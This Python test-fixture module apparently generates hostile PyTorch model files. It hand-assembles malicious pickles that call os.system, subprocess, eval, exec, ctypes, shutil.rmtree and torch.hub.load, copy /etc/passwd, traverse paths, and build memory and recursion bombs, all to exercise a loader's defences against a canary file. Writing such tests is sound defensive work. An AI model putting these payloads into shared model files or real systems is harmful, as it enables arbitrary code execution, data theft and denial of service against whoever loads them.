"""Pickles that would run code, take memory or never end, where torch.save puts its pickle."""

# A table reads better with one file a line.

from __future__ import annotations

import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from chaos.hostile_files.trial import Hostile

PROTO = b"\x80\x02"


def text(value: str) -> bytes:
    """Return opcodes of a text."""
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def call(name: str, *arguments: bytes) -> bytes:
    """Return opcodes of `module.name(*arguments)`."""
    module, _, attribute = name.rpartition(".")
    return f"c{module}\n{attribute}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def _calls(canary: Path) -> dict[str, bytes]:
    touch = text(f"touch {canary}")
    python = text(f"open({str(canary)!r}, 'w').close()")
    path, mode = text(str(canary)), text("w")
    empty, none = b"}", b"N"
    module = text("os")
    imported = call("importlib.import_module", module)
    system = call("builtins.getattr", imported, text("system"))
    listed = b"](" + text("touch") + path + b"e"
    inner = b"C" + bytes([len(small := _small(canary))]) + small
    return {
        "os.system": call("os.system", touch),
        "posix.system": call("posix.system", touch),
        "nt.system": call("nt.system", touch),
        "os.popen": call("os.popen", touch),
        "os.execv": call("os.execv", text("/usr/bin/touch"), listed),
        "os.spawnlp": call("os.spawnlp", b"K\x00", text("touch"), text("touch"), path),
        "posix_spawn": call("posix.posix_spawn", text("/usr/bin/touch"), listed, empty),
        "subprocess.Popen": call("subprocess.Popen", listed),
        "subprocess.check_output": call("subprocess.check_output", listed),
        "subprocess.getoutput": call("subprocess.getoutput", touch),
        "commands.getoutput": call("commands.getoutput", touch),
        "pty.spawn": call("pty.spawn", listed),
        "builtins.eval": call("builtins.eval", python),
        "__builtin__.eval": call("__builtin__.eval", python),
        "builtins.exec": call("builtins.exec", python),
        "builtins.open": call("builtins.open", path, mode),
        "io.open": call("io.open", path, mode),
        "_io.FileIO": call("_io.FileIO", path, mode),
        "codecs.open": call("codecs.open", path, mode),
        "builtins.__import__": call("builtins.__import__", module),
        "a chain of getattr": call("builtins.getattr", system, text("__call__")),
        "operator.methodcaller": call("operator.methodcaller", text("system"), touch),
        "operator.attrgetter": call("operator.attrgetter", text("system")),
        "functools.partial": call("functools.partial", b"cos\nsystem\n", touch),
        "functools.reduce": call("functools.reduce", b"cos\nsystem\n", b"](" + touch + b"e"),
        "map": call("builtins.map", b"cos\nsystem\n", b"](" + touch + b"e"),
        "pkgutil.resolve_name": call("pkgutil.resolve_name", text("os:system")),
        "runpy.run_path": call("runpy.run_path", path),
        "runpy._run_code": call("runpy._run_code", python, empty),
        "timeit.timeit": call("timeit.timeit", python),
        "cProfile.run": call("cProfile.run", python),
        "profile.run": call("profile.run", python),
        "pdb.run": call("pdb.run", python),
        "bdb.Bdb.run": call("bdb.Bdb.run", none, python),
        "code.InteractiveInterpreter": call("code.InteractiveInterpreter", empty),
        "pickle.loads": call("pickle.loads", inner),
        "_pickle.loads": call("_pickle.loads", inner),
        "marshal.loads": call("marshal.loads", inner),
        "types.FunctionType": call("types.FunctionType", none, empty),
        "types.CodeType": call("types.CodeType", none),
        "ctypes.CDLL": call("ctypes.CDLL", path),
        "webbrowser.open": call("webbrowser.open", text("http://localhost")),
        "urllib.request.urlopen": call("urllib.request.urlopen", text("http://localhost")),
        "socket.create_connection": call("socket.create_connection", none),
        "threading.Thread": call("threading.Thread", none, b"cos\nsystem\n"),
        "multiprocessing.Process": call("multiprocessing.Process", none, b"cos\nsystem\n"),
        "logging.config.dictConfig": call("logging.config.dictConfig", empty),
        "shutil.rmtree": call("shutil.rmtree", path),
        "shutil.copyfile": call("shutil.copyfile", text("/etc/passwd"), path),
        "os.remove": call("os.remove", path),
        "os.mkdir": call("os.mkdir", path),
        "os._exit": call("os._exit", b"K\x00"),
        "sys.exit": call("sys.exit", b"K\x00"),
        "os.kill": call("os.kill", b"K\x00", b"K\x09"),
        "sqlite3.connect": call("sqlite3.connect", path),
        "zipfile.ZipFile": call("zipfile.ZipFile", path, mode),
        "tarfile.open": call("tarfile.open", path, mode),
        "tempfile.mkstemp": call("tempfile.mkstemp"),
        "pathlib.Path.touch": call("pathlib.Path.touch", call("pathlib.Path", path)),
        "torch.load": call("torch.load", path),
        "torch.storage._load_from_bytes": call("torch.storage._load_from_bytes", inner),
        "torch.hub.load": call("torch.hub.load", text("evil/repo"), text("model")),
        "torch.jit.load": call("torch.jit.load", path),
        "torch.ops.load_library": call("torch.ops.load_library", path),
        "torch.utils.cpp_extension.load_inline": call(
            "torch.utils.cpp_extension.load_inline", text("x"), python
        ),
        "torch.serialization.add_safe_globals": call(
            "torch.serialization.add_safe_globals", b"](cos\nsystem\ne"
        ),
        "torch._dynamo.config": call("torch._dynamo.config.load_config", inner),
        "numpy.load": call("numpy.load", path),
        "numpy.savetxt": call("numpy.savetxt", path, b"]"),
        "numpy.f2py.compile": call("numpy.f2py.compile", python),
        "numpy.testing.runstring": call("numpy.testing._private.utils.runstring", python, empty),
        "joblib.load": call("joblib.load", path),
        "yaml.unsafe_load": call("yaml.unsafe_load", python),
        "site.main": call("site.main"),
        "antigravity": call("antigravity.geohash", b"K\x00"),
        "lib2to3": call("lib2to3.pgen2.driver.load_grammar", path),
    }


def _small(canary: Path) -> bytes:
    return (PROTO + call("os.system", text(f"touch {canary}")) + b".")[:255]


def _shapes(canary: Path) -> dict[str, bytes]:
    """Return other opcodes that name or build objects."""
    touch = text(f"touch {canary}")
    arguments = b"(" + touch + b"t"
    deep = 200_000
    bomb = b")" + b"q\x00" + b"".join(b"h\x000h\x00h\x00\x86q\x00" for _ in range(60))
    return {
        "INST": b"(" + touch + b"ios\nsystem\n",
        "OBJ": b"(cos\nsystem\n" + touch + b"o",
        "NEWOBJ": b"csubprocess\nPopen\n" + arguments + b"\x81",
        "NEWOBJ_EX": b"csubprocess\nPopen\n" + arguments + b"}\x92",
        "STACK_GLOBAL": text("os") + text("system") + b"\x93" + arguments + b"R",
        "STACK_GLOBAL with a dotted name": text("os")
        + text("path.os.system")
        + b"\x93"
        + arguments
        + b"R",
        "BUILD of __setstate__": call("collections.OrderedDict")
        + b"}"
        + text("__setstate__")
        + b"cos\nsystem\nsb",
        "EXT1": b"\x82\x01",
        "PERSID": b"Pevil\n",
        "BINPERSID of a call": call("os.system", touch) + b"Q",
        "a storage of a huge size": text("x")
        + b"0"
        + _storage("FloatStorage", b"\x8a\x08" + struct.pack("<q", 1 << 60))
        + b"Q",
        "a storage of a negative size": _storage(
            "FloatStorage", b"\x8a\x08" + struct.pack("<q", -5)
        )
        + b"Q",
        "a storage outside of the archive": _storage(
            "FloatStorage", b"K\x08", "../../../etc/passwd"
        )
        + b"Q",
        "a tensor beyond its storage": _tensor(
            b"K\x00", b"J" + struct.pack("<i", 1 << 28), b"K\x01"
        ),
        "a tensor before its storage": _tensor(b"J" + struct.pack("<i", -64), b"K\x02", b"K\x01"),
        "a tensor of a negative stride": _tensor(b"K\x04", b"K\x02", b"J" + struct.pack("<i", -1)),
        "a tensor of 2^60 elements": _tensor(
            b"K\x00", b"\x8a\x08" + struct.pack("<q", 1 << 60), b"K\x00"
        ),
        "a memo at 2^31": text("x") + b"r" + struct.pack("<I", (1 << 31) - 1),
        "a text of 2^62 bytes": b"\x8d" + struct.pack("<Q", 1 << 62) + b"x",
        "bytes of 2^62": b"\x8e" + struct.pack("<Q", 1 << 62) + b"x",
        "a bytearray of 2^62": b"\x96" + struct.pack("<Q", 1 << 62) + b"x",
        "a frame of 2^62": b"\x95" + struct.pack("<Q", 1 << 62) + b"N",
        "an integer of 2^31 bytes": b"\x8b" + struct.pack("<i", (1 << 31) - 1) + b"x",
        "a decimal integer of 4 MB": b"L" + b"9" * (4 << 20) + b"L\n",
        "lists in lists": b"]" * deep + b"a" * (deep - 1),
        "tuples in tuples": b")" + b"\x85" * deep,
        "a key of 2^60 tuples": b"}" + bomb + b"K\x01s",
        "a tuple of 2^60 tuples": bomb,
        "bytearray of 2^40": call(
            "builtins.bytearray", b"\x8a\x06" + struct.pack("<q", 1 << 40)[:6]
        ),
        "_codecs.encode": call("_codecs.encode", text("x"), text("zip")),
        "a range": call("builtins.range", b"\x8a\x08" + struct.pack("<q", 1 << 60)),
        "nothing on the stack": b"0",
        "no opcode": b"\xff",
        "protocol 255": b"\x80\xffN",
    }


VIEW = b"{view}"
"""Stands for what only the older format has at the end of a storage."""


def _storage(kind: str, count: bytes, key: str = "0") -> bytes:
    named = b"ctorch\n" + kind.encode() + b"\n" + text(key) + text("cpu")
    return b"(" + text("storage") + named + count + VIEW + b"t"


def _tensor(offset: bytes, size: bytes, stride: bytes) -> bytes:
    return call(
        "torch._utils._rebuild_tensor_v2",
        _storage("FloatStorage", b"K\x08") + b"Q",
        offset,
        size + b"\x85",
        stride + b"\x85",
        b"\x89",
        call("collections.OrderedDict"),
    )


def in_zip(value: bytes) -> bytes:
    """Return the pickle of a value as all of a file."""
    return PROTO + value + b"."


def in_state(value: bytes) -> bytes:
    """Return the pickle of a state_dict that holds the value beside weights."""
    return (
        PROTO
        + b"}("
        + text("weight")
        + _tensor(b"K\x00", b"K\x08", b"K\x01")
        + text("bias")
        + value
        + b"u."
    )


def write_zip(path: Path, data: bytes) -> Path:
    """Write an archive as torch.save does."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model/data.pkl", data.replace(VIEW, b""))
        archive.writestr("model/byteorder", "little")
        archive.writestr("model/data/0", struct.pack("<8f", *range(8)))
        archive.writestr("model/version", "3\n")
    return path


def write_legacy(path: Path, data: bytes) -> Path:
    """Write a file as torch.save did before version 1.6."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
    pickles = b"".join(pickle.dumps(part, 2) for part in head) + data.replace(VIEW, b"N")
    storage = struct.pack("<q8f", 8, *range(8))
    path.write_bytes(pickles + pickle.dumps(["0"], 2) + storage)
    return path


def hostile() -> Iterator[Hostile]:
    """Yield each object as all of a file, in a state_dict, and in a file of the older format."""
    names = [*_calls(Path("x")), *_shapes(Path("x"))]
    for name in names:
        for where, data, write in (
            ("whole file", in_zip, write_zip),
            ("in a state_dict", in_state, write_zip),
            ("older format", in_state, write_legacy),
        ):

            def make(
                directory: Path,
                canary: Path,
                name: str = name,
                data: Callable[[bytes], bytes] = data,
                write: Callable[[Path, bytes], Path] = write,
            ) -> Path:
                value = (_calls(canary) | _shapes(canary))[name]
                return write(directory / "model.pt", data(value))

            yield Hostile("pickles", f"{name}, {where}", make)
